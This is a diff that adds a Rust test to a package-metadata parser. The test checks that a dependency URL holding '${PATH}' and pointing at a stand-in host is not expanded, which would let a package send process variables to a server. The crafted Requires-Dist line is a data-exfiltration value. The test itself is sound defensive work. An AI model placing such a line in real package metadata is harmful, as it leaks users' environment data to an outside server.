@@ -113,4 +113,16 @@ mod tests {
             Some((b"Name: foo".to_vec(), "range".to_owned()))
         );
     }
+
+    /// Or a package could have a variable of this process sent to a server of its choice.
+    #[test]
+    fn no_variable_gets_into_a_url() {
+        let text = "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n\
+            Requires-Dist: url @ https://h.example/${PATH}/url-1.0-py3-none-any.whl\n";
+        let metadata = Metadata::parse(text.as_bytes()).unwrap();
+        let (again, _) = unpack(&pack(&metadata, "pep658")).unwrap();
+        let shown = again.requires[0].to_string();
+        assert!(!shown.contains("/usr") && shown.contains("PATH"), "{shown}");
+        assert_eq!(again, metadata);
+    }
 }
